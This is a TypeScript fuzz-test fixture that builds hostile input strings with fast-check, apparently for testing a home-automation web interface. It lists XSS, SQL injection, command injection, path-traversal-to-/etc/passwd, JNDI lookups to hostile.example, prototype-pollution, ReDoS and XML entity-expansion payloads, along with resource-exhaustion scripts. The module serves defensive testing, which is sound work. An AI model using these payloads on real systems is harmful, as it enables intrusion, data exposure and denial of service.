// cspell:disable
import fc from 'fast-check';

/** First actions of scripts in an input: the harness counts the calls of `alert`. */
const scripts = [
  ...['<script>alert(1)</script>', '"><script>alert(1)</script>'],
  ...['</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>'],
  ...['<img src=x onerror=alert(1)>', '"><img src=x onerror=alert(1)>', '<svg onload=alert(1)>'],
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  ...['<iframe srcdoc="<script>parent.alert(1)</script>">', '<details open ontoggle=alert(1)>'],
  ...['<input autofocus onfocus=alert(1)>', '<a href="javascript:alert(1)">a</a>'],
  '<base href="https://hostile.example/">',
  '<link rel=stylesheet href=https://hostile.example/a.css>',
  '<meta http-equiv=refresh content="0;url=https://hostile.example/">',
  '<form action=https://hostile.example/><button>a',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "https://hostile.example/a.css";</style>',
  '<x style="background:url(https://hostile.example/a.png)">',
  ...['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', 'javascript:alert(1)'],
  ...['data:text/html,<script>alert(1)</script>', "'-alert(1)-'", '${alert(1)}'],
  ...['{{constructor.constructor("alert(1)")()}}', '`;alert(1);//', ']]><script>alert(1)</script>'],
  '<!--><script>alert(1)</script>-->',
] as const;

const commands = [
  ...["' OR '1'='1' --", "'; DROP TABLE pages; --", '1 UNION SELECT NULL,NULL', '$(reboot)'],
  ...['; cat /etc/passwd |', '../../../../etc/passwd', '..\\..\\windows\\win.ini'],
  ...['%2e%2e%2f%2e%2e%2fetc%2fpasswd', '//hostile.example/', '/\\hostile.example/'],
  ...['https://hostile.example/', '%s%s%s%n%n%n%x', '{0}{1}%d${7*7}#{7*7}'],
  ...['${jndi:ldap://hostile.example/a}', '\r\nSet-Cookie: a=b', '*)(uid=*))(|(uid=*'],
] as const;

const names = [
  ...`__proto__ constructor prototype toString valueOf hasOwnProperty __proto__.hostile
  constructor.prototype.hostile __proto__[hostile]=1 null undefined NaN Infinity true -0`.split(
    /\s+/u,
  ),
  '[object Object]',
];

const syntax = [
  ...['a^', 'a~', 'knx~999999999', 'knx^1e309', 'knx^-1', 'knx~1e9', 'title:'],
  ...['title:title:title:', 'nothing:knx', '+ - + -', '-knx', '+knx -knx', '*', '*a*b*c*', '\\'],
  ...['(a+)+$', '(.*)*x', '([', '[^', '(?=', '\\u{110000}', `${'a'.repeat(30)}!`, 'INIT : $a = 1'],
  ...['$a = 1 : $a = 2\n$a = 2 : $a = 1\nINIT : $a = 1', 'INIT : {\nwhile (true) {}\n}'],
  'INIT : {\nvar a = "a"; for (;;) { a += a; }\n}',
  'INIT : {\n/^(a+)+$/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!")\n}',
  'INIT : {\nthis.constructor.constructor("return self")().alert(1)\n}',
  'INIT : PROGRAMTIMER t = REPEAT 1\nPROGRAMTIMER t : USER t = 1\nUSER t : USER t = 2',
  ...['INIT : USER __proto__ = constructor\nUSER __proto__ : IO constructor = 1', '('.repeat(500)],
  ...[`${'NOT ('.repeat(300)}DAY : $a = 1`, `INIT : ${'IO a.b = 1, '.repeat(200)}`, 'INIT : {'],
  ...['"', '#', '%', '#%E0%A4%A', '%00', '%c0%ae%c0%ae/', '%u0041', '?q=a&q=b#c#d'],
  ...['<button label="a" />', '<page id="a"><page id="b"/></page>'],
  '<constructor __proto__="a" />',
  '<table columns=\'[{"label":{"a":1},"type":[]}]\' items=\'[[{"toString":1},null,[[]]]]\' />',
  `<text text="=a='aa';${'a=a+a;'.repeat(120)}a" />`,
  "<text id=\"a\" text=\"=ui('a','text')+ui('a','text')\" />",
  `<text text="=${'('.repeat(900)}" />`,
  '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><text text="&c;" />',
  '<?xml-stylesheet href="https://hostile.example/a.xsl"?><text/>',
  '<text><![CDATA[<script>alert(1)</script>]]></text>',
  ...['<html content="<b onclick=alert(1)>a</b>" />', '<x:text xmlns:x="a" />'],
] as const;

const letters = [
  ...['', ' ', '\u0000', '\u0000\u0001\u001b[31m', '\ud800', '\udc00\ud800', '\ufeff\ufffe\uffff'],
  ...['\u202e\u2066gpj.exe', '\u200b\u200d\u2060', 'Z\u0351\u036b\u0343\u036a'.repeat(40)],
  ...['\u{1f469}\u200d\u{1f469}\u200d\u{1f467}', '\u{e0041}\u{e0042}', 'İıſK', 'ﷺ'.repeat(50)],
  ...['\u2028\u2029', '１２３ｋｎｘ'],
] as const;

/** Texts of an unusual size. */
export const hugeTexts: readonly string[] = [
  'a'.repeat(1_000_000),
  'knx '.repeat(250_000),
  'a,'.repeat(500_000),
  '/'.repeat(100_000),
  '('.repeat(100_000),
  '\n'.repeat(100_000),
  '<a>'.repeat(50_000),
  '%'.repeat(100_000),
];

/** Texts that have broken other sites, and those that would break this one first. */
export const knownTexts: readonly string[] = [
  ...scripts,
  ...commands,
  ...names,
  ...syntax,
  ...letters,
];

/** Words of the languages that are read here, to put texts together that get past their first check. */
const pieces = [
  ...`knx dimmer title: + - ~1 ^2 * " ' / . .. < > </ /> <page> text=" = &lt; &#0; <![CDATA[
  INIT IO USER ( ) { } $a # a.b % %41 [ ] __proto__ constructor 1e309 -1 0 é ∞ ? &`.split(/\s+/u),
  ...[' ', '\\', '<text ', 'id="a" ', ' AND ', ' OR ', 'NOT ', ' : ', ', ', '\n'],
  ...['PROGRAMTIMER t = REPEAT 1', 'function f() : ', 'var a = [];', 'while (a) '],
  ...['\u0000', '\ud83d'],
];

/** Texts made of letters of every kind, and of pieces of the languages that are read here. */
export const generatedTexts: fc.Arbitrary<string> = fc.oneof(
  fc.string({unit: 'binary', maxLength: 60}),
  fc.string({unit: 'grapheme', maxLength: 60}),
  fc
    .array(fc.constantFrom(...pieces), {minLength: 1, maxLength: 40})
    .map((parts) => parts.join('')),
  fc
    .tuple(fc.constantFrom(...pieces), fc.integer({min: 2, max: 400}))
    .map(([piece, count]) => piece.repeat(count)),
  fc
    .tuple(fc.constantFrom(...knownTexts), fc.constantFrom(...knownTexts))
    .map((parts) => parts.join(' ')),
);

/** Known and generated texts. */
export const hostileTexts: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...knownTexts),
  generatedTexts,
);

/** The seed of a run, which brings the same texts again; `HOSTILE_SEED` gives another. */
export const seed = Number(process.env.HOSTILE_SEED ?? 20_261_122);

/**
 * So many texts, known ones and generated ones in turns; the same for the same
 * seed and place.
 *
 * @param place which of the places where input comes in gets them
 */
export function textsFor(place: number, count: number): string[] {
  const known = fc.sample(fc.shuffledSubarray([...knownTexts], {minLength: knownTexts.length}), {
    seed: seed + place,
    numRuns: 1,
  })[0];
  const generated = fc.sample(generatedTexts, {seed: seed + place, numRuns: count});
  return Array.from({length: count}, (_, index) =>
    index % 2 === 0 ? (known?.[index / 2] ?? generated[index] ?? '') : (generated[index] ?? ''),
  );
}
